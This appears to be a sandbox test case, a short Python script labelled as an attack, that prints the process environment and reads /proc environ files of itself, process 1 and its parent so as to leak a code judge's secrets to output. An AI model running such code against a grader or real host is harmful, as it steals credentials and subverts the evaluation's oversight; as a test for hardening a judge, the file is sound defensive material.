# attack: reads the judge's secrets from its own environment
# lines: 9 21
# sign: secret
import os

print(dict(os.environ), flush=True)
for path in ("/proc/self/environ", "/proc/1/environ", f"/proc/{os.getppid()}/environ"):
    try:
        print(open(path, "rb").read(), flush=True)
    except OSError as error:
        print(type(error).__name__, flush=True)
